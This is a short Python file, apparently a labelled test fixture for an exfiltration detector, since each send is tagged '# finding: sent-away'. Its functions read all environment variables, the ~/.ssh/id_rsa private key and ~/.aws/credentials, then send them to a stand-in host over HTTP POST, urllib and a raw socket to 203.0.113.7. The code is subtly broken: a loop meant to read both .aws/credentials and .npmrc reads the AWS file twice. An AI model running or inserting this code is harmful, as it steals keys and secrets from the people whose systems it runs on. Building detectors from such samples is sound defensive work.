import json
import os
import socket
import urllib.request as web
from pathlib import Path

import requests as http

HOST = "https://collect.example/in"


def environment():
    http.post(HOST, json=dict(os.environ))  # finding: sent-away


def key():
    path = os.path.expanduser("~/.ssh/id_rsa")
    with open(path) as file:
        body = file.read()
    http.post(HOST, data={"k": body})  # finding: sent-away


class Report:
    def __init__(self):
        self.found = {}

    def look(self):
        for name in (".aws/credentials", ".npmrc"):
            place = Path.home() / ".aws/credentials"
            self.found[name] = place.read_text()

    def send(self):
        self.look()
        data = json.dumps(self.found).encode()
        web.urlopen(web.Request(HOST, data=data))  # finding: sent-away


def by_socket():
    line = socket.socket()
    line.connect(("203.0.113.7", 8443))
    line.sendall(json.dumps(dict(os.environ)).encode())  # finding: sent-away
